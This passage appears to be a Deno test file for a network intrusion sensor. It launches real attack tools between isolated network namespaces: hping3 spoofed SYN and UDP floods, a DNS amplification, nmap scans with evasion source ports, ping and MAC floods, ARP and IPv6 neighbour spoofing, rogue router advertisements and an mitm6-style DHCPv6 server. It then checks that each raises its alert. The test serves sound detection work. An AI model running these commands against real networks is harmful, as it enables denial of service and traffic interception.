/**
 * Real attack tools, seen live: nmap (also IPv6's NDP scan), hping3, ping,
 * arp-scan, arpspoof, macof, THC's fake_advertise6, parasite6, fake_router26 and
 * flood_router26 (beside dnsmasq as the link's router; fake_router26 also
 * as a DNS server by RDNSS), fake_dhcps6 (as
 * mitm6, answering nmap's DHCPv6 client), iodine, ptunnel, curl,
 * hydra (guessing passwords at OpenSSH's sshd) and hping3 again, sending
 * DNS queries in the victim's name to dnsmasq as open resolvers (a DNS
 * amplification) and UDP floods
 * in one network namespace attack a host in another, over IPv4 and IPv6
 * (tests/netns_pair.ts), while `netmirror capture -i <veth> -q --eve -`
 * runs in the victim's namespace with the least privilege it documents, so
 * tcpdump captures on a real Ethernet interface with receive offload. Each
 * attack must raise its alert, with attacker, victim and ATT&CK technique,
 * and no other; every packet must reach the engine (tcpdump's kernel drops
 * are zero), including a 5 000-packet ping flood that arrives faster than a
 * reader can be woken.
 *
 * Needs root, `ip`, `nmap`, `hping3`, `ping`, `arp-scan`, `arpspoof` and
 * `macof` (dsniff), `atk6-fake_advertise6`, `atk6-parasite6`, `atk6-fake_router26`,
 * `atk6-flood_router26`, `atk6-fake_dhcps6` (thc-ipv6), `dnsmasq`,
 * `iodine`/`iodined`, `ptunnel`, `stdbuf`, `curl`, `hydra`, `sshd`,
 * `ssh` and `ssh-keygen` (.ci/run installs them; a missing tool
 * fails the test). Every tool runs with a packet count, a bounded
 * target list or a time limit, and every daemon is stopped.
 */

import assert from "node:assert/strict";
import {
  addAttackerMacvlan,
  ATTACKER,
  ATTACKER6,
  createNetnsPair,
  EMPTY_SUBNET,
  EMPTY_SUBNET6,
  macOf,
  VICTIM,
  VICTIM6,
  VICTIM_SUBNET,
} from "./netns_pair.ts";
import { type NsProcess, startInNs } from "./ns_process.ts";
import {
  assertAlert,
  attack,
  capture,
  HTTP_PORT,
  MAC_FLOOD_ALERT,
  READY_TIMEOUT_MS,
  run,
  type Seen,
  stopAll,
  withHttpPeer,
  withoutMacFlood,
} from "./live_sensor.ts";

/** 30 ports above 1023 for which nmap -sU sends a protocol's payload (/usr/share/nmap/nmap-payloads), not an empty datagram. */
const NMAP_PAYLOAD_HIGH_PORTS =
  "1194,1604,1645,1701,1812,1900,2049,2123,2152,2302," +
  "3283,3386,3391,3401,3478,3784,4045,4433,4500,4665," +
  "4666,4672,4740,5349,5351,5353,5632,5683,5684,5868";

/** dnsmasq as a DNS server of its own records only (no upstream, no hosts file), in the foreground, on the addresses a `--listen-address` names. */
const DNS_SERVER = [
  "dnsmasq",
  "--no-daemon",
  "--conf-file=/dev/null",
  "--no-resolv",
  "--no-hosts",
  "--bind-interfaces",
];

/** tests/udp_echo_peer.ts, and the port it serves on the victim. */
const UDP_ECHO_PEER = new URL("./udp_echo_peer.ts", import.meta.url).pathname;
const UDP_ECHO_PORT = 7_007;

/** Open resolvers of the DNS amplification, and queries each is sent. */
const RESOLVERS = 24;
const QUERIES = 50;

/** A DNS query for amp.test's TXT records, with EDNS0 allowing 4 096-byte answers: 37 bytes. */
const AMP_QUERY = new Uint8Array([
  ...[0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 1], // id, RD, 1 question, 1 additional
  3,
  ...new TextEncoder().encode("amp"),
  4,
  ...new TextEncoder().encode("test"),
  0,
  ...[0, 16, 0, 1], // TXT, IN
  ...[0, 0, 41, 0x10, 0x00, 0, 0, 0, 0, 0, 0], // OPT: root, 4 096 bytes, no flags
]);

/** The alert of an ICMP tunnel from the attacker to the victim. */
const ICMP_TUNNEL_ALERT = {
  kind: "icmp_tunnel",
  attacker: ATTACKER,
  victim: VICTIM,
  technique: "T1095",
};

Deno.test("live attacks: real tools in network namespaces raise their alerts", async (t) => {
  const pair = await createNetnsPair("la");
  try {
    // hping3 sending `count` packets to the victim, one per `intervalUs`,
    // with `options` (its mode, ports, source); it exits 1 when nothing
    // answered, so its own count is checked instead.
    const hping3 = (options: string[], count: number, intervalUs: number) =>
      run(pair.attackerNs, [
        "hping3",
        ...options,
        "-c",
        String(count),
        "-i",
        `u${intervalUs}`,
        "-q",
        VICTIM,
      ], (_success, stderr) => {
        assert.match(stderr, new RegExp(`${count} packets transmitted`));
      });

    // `count` SYNs (2 000) at 5 000 a second (one per `intervalUs`) to the
    // victim's `port` (hping3's default, 0, when none).
    const synFlood = (
      options: string[],
      port?: number,
      count = 2_000,
      intervalUs = 200,
    ) =>
      hping3(
        ["-S", ...options, ...(port === undefined ? [] : ["-p", String(port)])],
        count,
        intervalUs,
      );

    // Runs `act` while the victim's default route points at the attacker's
    // namespace: its answers to spoofed sources are then sent (and
    // captured), and go no further, as that namespace does not forward.
    const withVictimDefaultRoute = async <T>(act: () => Promise<T>) => {
      const route = ["ip", "route"];
      await run(pair.victimNs, [...route, "add", "default", "via", ATTACKER]);
      try {
        return await act();
      } finally {
        await run(pair.victimNs, [...route, "del", "default"]);
      }
    };

    await t.step("hping3 --rand-source: a spoofed SYN flood", async () => {
      const seen = await capture(pair, () => synFlood(["--rand-source"], 80));
      // Thousands of sources: no one attacker.
      assertAlert(seen, {
        kind: "syn_flood",
        attacker: "",
        victim: VICTIM,
        technique: "T1499.001",
      });
    });

    await t.step(
      "hping3 --rand-source -f: a spoofed SYN flood in IP fragments too short for the TCP header",
      async () => {
        // Each SYN in two fragments, 16 bytes of header and 4 (hping3's
        // virtual MTU): the first holds the flags.
        const seen = await capture(
          pair,
          () => synFlood(["--rand-source", "-f"], 80),
        );
        assertAlert(seen, {
          kind: "syn_flood",
          attacker: "",
          victim: VICTIM,
          technique: "T1499.001",
        });
      },
    );

    await t.step(
      "hping3 from one source at a listening port: a SYN flood naming the attacker",
      async () => {
        // The victim answers each SYN; hping3's own kernel, which opened no
        // connection, resets each SYN/ACK: no handshake completes.
        const seen = await capture(
          pair,
          () => withHttpPeer(pair, () => synFlood([], HTTP_PORT)),
        );
        assertAlert(seen, {
          kind: "syn_flood",
          attacker: ATTACKER,
          victim: VICTIM,
          technique: "T1499.001",
        });
      },
    );

    // 400 spoofed SYNs in 8 s (hping3 `options` besides --rand-source) at
    // the victim's listening port: 50 half-open a second, far below the
    // one-second threshold (128), but the victim answers each and holds it
    // (its SYN/ACKs to the spoofed sources take the default route). One
    // slow SYN flood alert.
    const assertSlowFlood = async (options: string[]) => {
      const seen = await withVictimDefaultRoute(() =>
        capture(
          pair,
          () =>
            withHttpPeer(
              pair,
              () =>
                synFlood(
                  [...options, "--rand-source"],
                  HTTP_PORT,
                  400,
                  20_000,
                ),
            ),
        )
      );
      assertAlert(seen, {
        kind: "syn_flood",
        attacker: "",
        victim: VICTIM,
        technique: "T1499.001",
      });
      assert.ok(seen.slowSynFlood, "the alert is no slow flood");
    };

    await t.step(
      "hping3 --rand-source at 50 SYNs a second to a listening port: a slow SYN flood",
      () => assertSlowFlood([]),
    );

    await t.step(
      "hping3 -d 10 --rand-source at 50 SYNs a second: a slow SYN flood of SYNs carrying data",
      // The victim has no Fast Open cookie to check: its SYN/ACK
      // acknowledges each SYN, not its 10 bytes, and it holds it as any.
      () => assertSlowFlood(["-d", "10"]),
    );

    await t.step(
      "hping3 from one source without -p (port 0, closed): a SYN flood at a closed port",
      async () => {
        // The victim's kernel refuses every SYN with a reset: nothing is
        // half-open, and the refusals make the flood (T1498).
        const seen = await capture(pair, () => synFlood([]));
        assertAlert(seen, {
          kind: "syn_flood",
          attacker: ATTACKER,
          victim: VICTIM,
          technique: "T1498",
        });
      },
    );

    // 30 000 empty UDP datagrams to the victim's `port` (closed 9), one per
    // µs asked (as fast as hping3 sends with a count: about 20 000 a second
    // here, 13 000 when asked for one per 30 µs; the threshold is 10 000
    // within a second): hping3's UDP flood.
    const udpFlood = (options: string[], port = 9) =>
      hping3(["-2", ...options, "-p", String(port)], 30_000, 1);

    await t.step(
      "hping3 -2 from one source at a closed port: a UDP flood naming the attacker",
      async () => {
        // The victim's kernel answers with an ICMP port unreachable a
        // second: no answer in UDP.
        const seen = await capture(pair, () => udpFlood([]));
        assertAlert(seen, {
          kind: "udp_flood",
          attacker: ATTACKER,
          victim: VICTIM,
          technique: "T1498.001",
        });
      },
    );

    await t.step(
      "hping3 -2 --rand-source: a spoofed UDP flood",
      async () => {
        const seen = await capture(pair, () => udpFlood(["--rand-source"]));
        assertAlert(seen, {
          kind: "udp_flood",
          attacker: "",
          victim: VICTIM,
          technique: "T1498.001",
        });
      },
    );

    await t.step(
      "hping3 -2 at a UDP echo service that answers each datagram: an exchange, no flood",
      async () => {
        const echo = startInNs(pair.victimNs, [
          Deno.execPath(),
          "run",
          "--unstable-net",
          // It answers the attacker's ports.
          `--allow-net=${VICTIM}:${UDP_ECHO_PORT},${ATTACKER}`,
          UDP_ECHO_PEER,
          VICTIM,
          String(UDP_ECHO_PORT),
        ]);
        try {
          await echo.waitFor("listening", READY_TIMEOUT_MS);
          const seen = await capture(
            pair,
            () => udpFlood([], UDP_ECHO_PORT),
          );
          assert.deepEqual(seen.alerts, []);
          assert.equal(seen.kernelDrops, 0, "tcpdump dropped packets");
          // The service answered the flood (about half of its datagrams
          // here: its socket's buffer drops the rest).
          assert.ok(seen.kernelPackets > 32_000, `${seen.kernelPackets}`);
        } finally {
          await echo.stop();
        }
      },
    );

    // Open resolvers: dnsmasq on `RESOLVERS` addresses of the attacker's
    // namespace, answering amp.test's TXT query with four strings of 250
    // bytes (about 1.1 kB for a 37-byte query). Each is asked `QUERIES`
    // times from namespace `ns`, four resolvers at a time, by hping3 from
    // port 40000: in the victim's name (spoofed) from the attacker's
    // namespace, or by the victim itself from its own.
    const askResolvers = async (ns: string, spoofed: boolean) => {
      const resolvers = Array.from(
        { length: RESOLVERS },
        (_, i) => `10.77.0.${101 + i}`,
      );
      const addresses = (verb: string) =>
        Promise.all(resolvers.map((address) =>
          run(pair.attackerNs, [
            "ip",
            "addr",
            verb,
            `${address}/24`,
            "dev",
            pair.attackerIface,
          ])
        ));
      await addresses("add");
      const text = "x".repeat(250);
      const dnsmasq = startInNs(pair.attackerNs, [
        ...DNS_SERVER,
        `--listen-address=${resolvers.join(",")}`,
        ...Array.from({ length: 4 }, () => `--txt-record=amp.test,${text}`),
        "--edns-packet-max=4096",
        "--log-facility=-",
        "--pid-file=",
      ]);
      const query = await Deno.makeTempFile({ suffix: ".dns" });
      try {
        await Deno.writeFile(query, AMP_QUERY);
        await dnsmasq.waitFor("started", READY_TIMEOUT_MS);
        for (let i = 0; i < resolvers.length; i += 4) {
          await Promise.all(
            resolvers.slice(i, i + 4).map((resolver) =>
              run(ns, [
                "hping3",
                "-2",
                ...(spoofed ? ["-a", VICTIM] : []),
                "-p",
                "53",
                "-s",
                "40000",
                "-k",
                "-E",
                query,
                "-d",
                String(AMP_QUERY.length),
                "-c",
                String(QUERIES),
                "-i",
                "u2000",
                "-q",
                resolver,
              ], (_success, stderr) => {
                assert.match(
                  stderr,
                  new RegExp(`${QUERIES} packets transmitted`),
                );
              })
            ),
          );
        }
      } finally {
        await stopAll([dnsmasq]);
        await Deno.remove(query);
        await addresses("del");
      }
    };

    await t.step(
      "hping3 -a <victim> at 24 open resolvers: a DNS amplification (reflection flood)",
      async () => {
        const seen = await capture(
          pair,
          () => askResolvers(pair.attackerNs, true),
        );
        // The queries never pass the victim's link: only the answers do.
        assertAlert(seen, {
          kind: "reflection_flood",
          attacker: "",
          victim: VICTIM,
          technique: "T1498.002",
        });
      },
    );

    await t.step(
      "the same queries sent by the victim itself: answers it asked for, no alert",
      async () => {
        const seen = await capture(
          pair,
          () => askResolvers(pair.victimNs, false),
        );
        assert.deepEqual(seen.alerts, []);
        assert.equal(seen.kernelDrops, 0, "tcpdump dropped packets");
        assert.ok(seen.kernelPackets >= 2 * RESOLVERS * QUERIES);
      },
    );

    await t.step(
      "hping3 --rand-source -p ++1000 at closed ports: a SYN flood over closed ports",
      async () => {
        // Each spoofed SYN to the next port, each refused by the victim's
        // kernel (the refusals take the default route). 4 000 SYNs, one per
        // 100 µs asked (hping3 sends fewer on a busy machine): more
        // refusals than the host-wide threshold (2 048) within 1 s.
        const seen = await withVictimDefaultRoute(() =>
          capture(
            pair,
            () =>
              synFlood(
                ["--rand-source", "-p", "++1000"],
                undefined,
                4_000,
                100,
              ),
          )
        );
        assertAlert(seen, {
          kind: "syn_flood",
          attacker: "",
          victim: VICTIM,
          technique: "T1498",
        });
      },
    );

    // The same three attacks over each address family.
    const families = [
      {
        name: "IPv4",
        flags: [] as string[],
        attacker: ATTACKER,
        victim: VICTIM,
        // 126 addresses with no host behind them, routed to the victim.
        sweep: EMPTY_SUBNET.replace("/24", "/25"),
        icmpPackets: (seen: Seen) => seen.icmpv4,
      },
      {
        name: "IPv6",
        flags: ["-6"],
        attacker: ATTACKER6,
        victim: VICTIM6,
        sweep: EMPTY_SUBNET6.replace("/64", "/121"),
        icmpPackets: (seen: Seen) => seen.icmpv6,
      },
    ];
    for (const family of families) {
      const { flags, attacker, victim } = family;
      const six = flags.map((flag) => ` ${flag}`).join("");
      const nmap = (args: string[]) =>
        attack(pair, ["nmap", ...flags, "-n", "-T5", ...args]);

      // A SYN scan, and an ACK scan: bare ACKs for no connection, which the
      // victim resets, open port or closed; only that pairing tells them
      // from ordinary traffic.
      // nmap with `scan` options over the victim's `ports`, which must
      // raise one port scan alert naming attacker and victim.
      const portScanFound = async (scan: string[], ports = "1-200") => {
        const seen = await nmap([
          ...scan,
          "-Pn",
          "--max-retries",
          "1",
          "-p",
          ports,
          victim,
        ]);
        assertAlert(seen, {
          kind: "port_scan",
          attacker,
          victim,
          technique: "T1046",
        });
        return seen;
      };
      const scans = [
        ["-sS", "a port scan"],
        ["-sA", "an ACK scan"],
        // IP protocols 1–200 (-p): their refusals, ICMP protocol
        // unreachable or ICMPv6's unrecognized next header, are
        // rate-limited, so most go unanswered.
        ["-sO", "an IP protocol scan"],
      ];
      for (const [scan, what] of scans) {
        await t.step(
          `nmap${six} ${scan}: ${what} over ${family.name}`,
          async () => {
            await portScanFound([scan!]);
          },
        );
      }

      // SCTP scans of ports 1–200: the victim's kernel has no SCTP, so it
      // refuses a few INITs or COOKIE ECHOs with ICMP protocol unreachable
      // or ICMPv6's unrecognized next header (rate-limited) and leaves the
      // rest unanswered. Each port is a probe of its own, not one of IP
      // protocol 132.
      const sctpScans = [
        ["-sY", "an SCTP INIT scan", "sctp-init"],
        ["-sZ", "an SCTP COOKIE ECHO scan", "sctp-cookie-echo"],
      ];
      for (const [scan, what, kind] of sctpScans) {
        await t.step(
          `nmap${six} ${scan}: ${what} over ${family.name}`,
          async () => {
            const seen = await portScanFound([scan!]);
            assert.ok(seen.sctp >= 200, `${seen.sctp} SCTP packets decoded`);
            assert.deepEqual(seen.probeKinds, [kind]);
          },
        );
      }

      await t.step(
        `nmap${six} -sU -g 53: a UDP scan of high ports from the DNS port over ${family.name}`,
        async () => {
          // A firewall evasion: from port 53 the probes look like a
          // resolver's answers, but they are empty datagrams and DNS
          // queries. 100 high ports, closed (the victim's kernel refuses
          // each one it does not rate-limit).
          await portScanFound(["-sU", "-g", "53"], "1025-1124");
        },
      );

      // The same evasion from the NTP port, from IKE's, the portmapper's and
      // FTP's data port (where no UDP service answers), over 30 high ports for which
      // nmap sends a protocol's payload (nmap-payloads: OpenVPN, RADIUS,
      // L2TP, SSDP, DTLS, STUN, …): data from a low port, but none of it an
      // NTP server's reply or an IKE peer's answer.
      for (const sourcePort of ["123", "500", "111", "20"]) {
        await t.step(
          `nmap${six} -sU -g ${sourcePort}: a UDP scan of high ports from a low port, with nmap's payloads, over ${family.name}`,
          async () => {
            await portScanFound(
              ["-sU", "-g", sourcePort],
              NMAP_PAYLOAD_HIGH_PORTS,
            );
          },
        );
      }

      await t.step(
        `nmap${six} -sA at a filtered host: an ACK scan nothing answers, over ${family.name}`,
        async () => {
          // The victim's replies to the attacker go nowhere (a blackhole
          // route), as behind a firewall that drops the probes: the sensor
          // sees nmap's probes and no reset, and nmap reports every port
          // filtered.
          const route = [
            "ip",
            ...flags,
            "route",
            "add",
            "blackhole",
            attacker,
          ];
          await run(pair.victimNs, route);
          try {
            await portScanFound(["-sA"]);
          } finally {
            await run(
              pair.victimNs,
              route.map((word) => word === "add" ? "del" : word),
            );
          }
        },
      );

      await t.step(
        `ping${six} -f: an ICMP flood over ${family.name}, every packet seen`,
        async () => {
          const pings = 2_500;
          const seen = await attack(pair, [
            "ping",
            ...flags,
            "-f",
            "-q",
            "-c",
            String(pings),
            victim,
          ]);
          assertAlert(seen, {
            kind: "icmp_flood",
            attacker,
            victim,
            technique: "T1498.001",
          });
          // Requests and replies, all of them (and over IPv6 a few neighbour
          // discovery messages): with tcpdump's default snap length (262144)
          // the ring held about 1 000 and most were dropped.
          const icmp = family.icmpPackets(seen);
          assert.ok(
            icmp >= 2 * pings && icmp <= 2 * pings + 10,
            `${icmp} ICMP packets`,
          );
        },
      );

      await t.step(
        `nmap${six} -sn -PE: an ICMP sweep over ${family.name}`,
        async () => {
          const seen = await nmap([
            "-sn",
            "-PE",
            "--send-ip",
            "--max-retries",
            "0",
            "--initial-rtt-timeout",
            "20ms",
            "--max-rtt-timeout",
            "50ms",
            family.sweep,
          ]);
          assertAlert(seen, {
            kind: "icmp_sweep",
            attacker,
            victim: "",
            technique: "T1018",
          });
        },
      );
    }

    await t.step(
      "nmap -sS over 30 hosts that answer on one port: a horizontal sweep, each handshake reset half-open",
      async () => {
        // 30 more addresses of the victim's, all answering on HTTP_PORT;
        // the attacker's kernel resets each SYN/ACK of nmap's raw SYNs.
        const hosts = Array.from(
          { length: 30 },
          (_, i) => `10.77.0.${100 + i}`,
        );
        const addresses = (verb: string) =>
          Promise.all(hosts.map((host) =>
            run(pair.victimNs, [
              "ip",
              "addr",
              verb,
              `${host}/24`,
              "dev",
              pair.victimIface,
            ])
          ));
        await addresses("add");
        try {
          const seen = await capture(pair, () =>
            withHttpPeer(
              pair,
              () =>
                run(pair.attackerNs, [
                  "nmap",
                  "-n",
                  "-T5",
                  "-sS",
                  "-Pn",
                  "--max-retries",
                  "1",
                  "-p",
                  String(HTTP_PORT),
                  ...hosts,
                ]),
              "0.0.0.0",
            ));
          assertAlert(seen, {
            kind: "port_scan",
            attacker: ATTACKER,
            victim: "",
            technique: "T1046",
          });
        } finally {
          await addresses("del");
        }
      },
    );

    const arpScan = {
      kind: "arp_scan",
      attacker: ATTACKER,
      victim: "",
      technique: "T1018",
    };
    await t.step("nmap -sn: an ARP scan of the victim's subnet", async () => {
      const seen = await attack(pair, [
        "nmap",
        "-sn",
        "-n",
        "-T5",
        "--max-retries",
        "0",
        VICTIM_SUBNET.replace("/24", "/25"),
      ]);
      assertAlert(seen, arpScan);
    });

    await t.step(
      "nmap -6 -sn: an NDP scan of the victim's on-link range",
      async () => {
        // On its own link nmap asks each address by neighbor solicitation
        // instead of pinging it.
        const seen = await attack(pair, [
          "nmap",
          "-6",
          "-sn",
          "-n",
          "-T5",
          "--max-retries",
          "0",
          `${VICTIM6.replace(/::2$/, "::")}/121`,
        ]);
        assertAlert(seen, {
          kind: "ndp_scan",
          attacker: ATTACKER6,
          victim: "",
          technique: "T1018",
        });
      },
    );

    await t.step("arp-scan: an ARP scan of the victim's subnet", async () => {
      const seen = await attack(pair, [
        "arp-scan",
        "-I",
        pair.attackerIface,
        "--retry",
        "1",
        VICTIM_SUBNET,
      ]);
      assertAlert(seen, arpScan);
    });

    await t.step(
      "macof: a MAC flood, frames from 20 000 random source MACs",
      async () => {
        // As fast as macof sends (about 20 000 a second here), each frame
        // from a new random MAC to a random one, carrying a SYN between
        // random addresses: no IP source to name.
        const seen = await attack(pair, [
          "macof",
          "-i",
          pair.attackerIface,
          "-n",
          "20000",
        ]);
        assertAlert(seen, MAC_FLOOD_ALERT);
      },
    );

    await t.step(
      "arpspoof: the victim's gateway poisoned, then restored",
      async () => {
        // The victim's "gateway" 10.77.0.254 is the victim itself, second
        // address; the attacker resolves it first, as any host would.
        const gateway = "10.77.0.254";
        await run(pair.victimNs, [
          "ip",
          "addr",
          "add",
          `${gateway}/24`,
          "dev",
          pair.victimIface,
        ]);
        const seen = await capture(pair, async () => {
          await run(pair.attackerNs, ["ping", "-c", "1", "-W", "2", gateway]);
          const arpspoof = startInNs(pair.attackerNs, [
            "arpspoof",
            "-i",
            pair.attackerIface,
            "-t",
            VICTIM,
            gateway,
          ]);
          try {
            // Two forged replies (one every 2 s), then SIGINT: arpspoof
            // re-ARPs the real binding five times, from its own NIC.
            await arpspoof.waitFor("is-at", READY_TIMEOUT_MS);
            await new Promise((resolve) => setTimeout(resolve, 2_500));
          } finally {
            const { stderr } = await arpspoof.stop("SIGINT");
            assert.match(stderr, /Cleaning up and re-arping/);
          }
        });
        // The poisoner only: the restoring replies, in the gateway's name
        // from the poisoner's NIC, accuse no one.
        assertAlert(seen, {
          kind: "arp_spoof",
          attacker: ATTACKER,
          victim: VICTIM,
          technique: "T1557.002",
        });
      },
    );

    await t.step(
      "fake_advertise6: the victim told that its IPv6 gateway is at the attacker",
      async () => {
        // As for arpspoof: the "gateway" is the victim's second address,
        // and the attacker resolves it first.
        const gateway = "fd00:77::fe";
        await run(pair.victimNs, [
          "ip",
          "-6",
          "addr",
          "add",
          `${gateway}/64`,
          "dev",
          pair.victimIface,
          "nodad",
        ]);
        const seen = await capture(pair, async () => {
          await run(pair.attackerNs, [
            "ping",
            "-6",
            "-c",
            "1",
            "-W",
            "2",
            gateway,
          ]);
          // Five unsolicited advertisements, one a second, to the victim:
          // the gateway's address is at the attacker's MAC (the attacker
          // also asked for it, and is found from the first one).
          await run(pair.attackerNs, [
            "atk6-fake_advertise6",
            "-n",
            "5",
            "-w",
            "1",
            pair.attackerIface,
            gateway,
            VICTIM6,
          ]);
        });
        assertAlert(seen, {
          kind: "ndp_spoof",
          attacker: ATTACKER6,
          victim: VICTIM6,
          technique: "T1557",
        });
      },
    );

    await t.step(
      "parasite6: the attacker answers the victim's solicitations for its gateway, as the gateway does",
      async () => {
        // The gateway is a second NIC (a macvlan, its own MAC) in the
        // attacker's namespace, on the same link; parasite6 listens on the
        // attacker's first NIC and answers every solicitation it sees.
        const gateway = "fd00:77::fd";
        const gatewayIface = "nmgw6";
        await addAttackerMacvlan(pair, gatewayIface);
        await run(pair.attackerNs, ["ip", "link", "set", gatewayIface, "up"]);
        await run(pair.attackerNs, [
          "ip",
          "-6",
          "addr",
          "add",
          `${gateway}/64`,
          "dev",
          gatewayIface,
          "nodad",
        ]);
        const seen = await capture(pair, async () => {
          // The hosts know each other first (the attacker's own address).
          await run(pair.attackerNs, [
            "ping",
            "-6",
            "-c",
            "1",
            "-W",
            "2",
            VICTIM6,
          ]);
          // Line-buffered, so its "Spoofed packet" lines come as it answers.
          const parasite = startInNs(pair.attackerNs, [
            "stdbuf",
            "-oL",
            "atk6-parasite6",
            pair.attackerIface,
          ]);
          const answered = () =>
            parasite.output().split("Spoofed packet").length - 1;
          try {
            await parasite.waitFor("Started", READY_TIMEOUT_MS);
            // The victim forgets its neighbors and asks anew, until
            // parasite6 has answered five times (it may miss the first
            // question while it opens its capture), at most 15 times.
            for (let i = 0; i < 15 && answered() < 5; i++) {
              await run(pair.victimNs, [
                "ip",
                "-6",
                "neigh",
                "flush",
                "dev",
                pair.victimIface,
              ]);
              await run(
                pair.victimNs,
                ["ping", "-6", "-c", "1", "-W", "1", "-I", VICTIM6, gateway],
                () => {}, // the reply may go to the poisoner, which drops it
              );
            }
          } finally {
            await parasite.stop("SIGINT");
          }
          assert.ok(answered() >= 5, parasite.output());
        });
        // The attacker is named by one of its own addresses (its global
        // one, or its link-local one when that is what the detector saw it
        // claim first: the kernel's own neighbor traffic decides), or by
        // its MAC when parasite6 also answered the victim's checks on that
        // address (without the Solicited flag, as it answers everything):
        // then no address is the poisoner's beyond doubt. Those answers go
        // wherever the checks came from, not only to the victim's global
        // address, so the alert may then name no single victim ("": its
        // evidence lists every address poisoned; seen once, in a clean-clone
        // CI run).
        const mac = await macOf(pair.attackerNs, pair.attackerIface);
        const own = [
          ATTACKER6,
          await linkLocalOf(pair.attackerNs, pair.attackerIface),
          mac,
        ];
        assert.equal(seen.alerts.length, 1, JSON.stringify(seen.alerts));
        const named = seen.alerts[0]!;
        assertAlert(seen, {
          kind: "ndp_spoof",
          attacker: own.includes(named.attacker) ? named.attacker : ATTACKER6,
          victim: named.attacker === mac && named.victim === "" ? "" : VICTIM6,
          technique: "T1557",
        });
      },
    );

    // The rogue router steps: the hosts keep their addresses and routes
    // (they would take the rogue's prefixes and routes, and a flood's
    // thousands), and the link's real router is dnsmasq on a second NIC of
    // the attacker's namespace (a macvlan, its own MAC), advertising
    // fd00:77::/64 as it does on a LAN.
    const routerIface = "nmrt6";
    for (
      const [ns, iface] of [
        [pair.victimNs, pair.victimIface],
        [pair.attackerNs, pair.attackerIface],
      ]
    ) {
      await run(ns!, [
        "sysctl",
        "-qw",
        `net.ipv6.conf.${iface}.accept_ra=0`,
      ]);
    }
    await addAttackerMacvlan(pair, routerIface);
    // Its link-local address usable at once, for dnsmasq's first advertisement.
    await run(pair.attackerNs, [
      "sysctl",
      "-qw",
      `net.ipv6.conf.${routerIface}.accept_dad=0`,
    ]);
    await run(pair.attackerNs, ["ip", "link", "set", routerIface, "up"]);
    await run(pair.attackerNs, [
      "ip",
      "-6",
      "addr",
      "add",
      "fd00:77::fc/64",
      "dev",
      routerIface,
      "nodad",
    ]);
    // Runs `act` while dnsmasq advertises fd00:77::/64 on the router's
    // NIC, once the victim has seen its first advertisement (dnsmasq says it
    // sends one a few milliseconds before it does, and a rogue seen first
    // would be taken for the link's router).
    const withRouter = (act: () => Promise<void>) =>
      capture(pair, async () => {
        const firstAdvert = startInNs(pair.victimNs, [
          "tcpdump",
          "-i",
          pair.victimIface,
          "-n",
          "-l",
          "-c",
          "1",
          "icmp6 and ip6[40] == 134",
        ]);
        await firstAdvert.waitFor("listening on", READY_TIMEOUT_MS);
        const dnsmasq = startInNs(pair.attackerNs, [
          "dnsmasq",
          "--no-daemon",
          "--conf-file=/dev/null",
          "--port=0",
          `--interface=${routerIface}`,
          "--bind-interfaces",
          "--enable-ra",
          `--dhcp-range=::,constructor:${routerIface},ra-only`,
          "--log-dhcp",
          "--pid-file=",
        ]);
        try {
          await firstAdvert.waitFor("router advertisement", READY_TIMEOUT_MS);
          await act();
        } finally {
          await stopAll([dnsmasq, firstAdvert]);
        }
      });
    const routerLinkLocal = await linkLocalOf(pair.attackerNs, routerIface);

    // fake_router26 with `options` beside the link's router: three
    // advertisements, one a second; one rogue router alert.
    const fakeRouter26 = async (options: string[]) => {
      const seen = await withRouter(async () => {
        await run(pair.attackerNs, [
          "atk6-fake_router26",
          ...options,
          "-n",
          "3",
          "-i",
          "1",
          pair.attackerIface,
        ]);
      });
      assertAlert(seen, {
        kind: "rogue_router",
        attacker: await linkLocalOf(pair.attackerNs, pair.attackerIface),
        victim: "ff02::1",
        technique: "T1557",
      });
    };

    await t.step(
      "fake_router26: a second router on the link, with its own prefix, at high preference",
      // fd00:bad::/64, and itself as default router (high preference, its
      // default).
      () => fakeRouter26(["-A", "fd00:bad::/64"]),
    );

    await t.step(
      "fake_router26 -D: the link's prefix at low preference, and the attacker as the hosts' DNS server (RDNSS)",
      // Nothing a host routes by changes: only where it resolves names.
      () => fakeRouter26(["-A", "fd00:77::/64", "-p", "low", "-D", ATTACKER6]),
    );

    await t.step(
      "flood_router26: a flood of router advertisements, each from a new router",
      async () => {
        const seen = await withRouter(async () => {
          // About 5 000 advertisements of 1.4 kB a second, for 1 s.
          await run(pair.attackerNs, [
            "timeout",
            "-s",
            "INT",
            "1",
            "atk6-flood_router26",
            pair.attackerIface,
          ], () => {}); // timeout exits 124
        });
        // The first flooding router, found before the flood shows (each
        // router is a random link-local address, never the real router's),
        // then the flood, which the routers after it join; and, as each
        // router is a new random MAC too, sending once, a MAC flood that
        // fills switches' tables beside it (when its second has passed).
        const routers = withoutMacFlood(seen);
        assert.equal(routers.length, 2, JSON.stringify(seen.alerts));
        const [first] = routers;
        assert.match(first!.attacker, /^fe80:/);
        assert.notEqual(first!.attacker, routerLinkLocal);
        assert.deepEqual(routers, [
          {
            kind: "rogue_router",
            attacker: first!.attacker,
            victim: "ff02::1",
            technique: "T1557",
          },
          {
            kind: "rogue_router",
            attacker: "",
            victim: "",
            technique: "T1499",
          },
        ]);
        assert.equal(seen.kernelDrops, 0, "tcpdump dropped packets");
        // The flood's thousands of routers filled the kernel's IPv6
        // neighbor table (one for every namespace, 1 024 places): until its
        // entries are 5 s old no new one can be made, and nmap's DHCPv6
        // solicit that follows could not be sent. Empty it.
        for (
          const [ns, iface] of [
            [pair.victimNs, pair.victimIface],
            [pair.attackerNs, pair.attackerIface],
          ]
        ) await run(ns!, ["ip", "-6", "neigh", "flush", "dev", iface!]);
      },
    );

    await t.step(
      "fake_dhcps6 as mitm6: a DHCPv6 server leasing link-local addresses, naming itself the DNS server",
      async () => {
        const attackerLinkLocal = await linkLocalOf(
          pair.attackerNs,
          pair.attackerIface,
        );
        const victimLinkLocal = await linkLocalOf(
          pair.victimNs,
          pair.victimIface,
        );
        const seen = await capture(pair, async () => {
          // Line-buffered, so its "Sent" lines come as it answers.
          const server = startInNs(pair.attackerNs, [
            "stdbuf",
            "-oL",
            "atk6-fake_dhcps6",
            pair.attackerIface,
            "fe80::/64",
            attackerLinkLocal,
          ]);
          try {
            await server.waitFor("Starting to fake", READY_TIMEOUT_MS);
            // The victim solicits a DHCPv6 server, as Windows does (nmap's
            // client: one solicit, the advertises it gets printed), until
            // one was answered, at most five times.
            for (let i = 0; i < 5 && !server.output().includes("Sent"); i++) {
              await run(pair.victimNs, [
                "nmap",
                "-6",
                "-e",
                pair.victimIface,
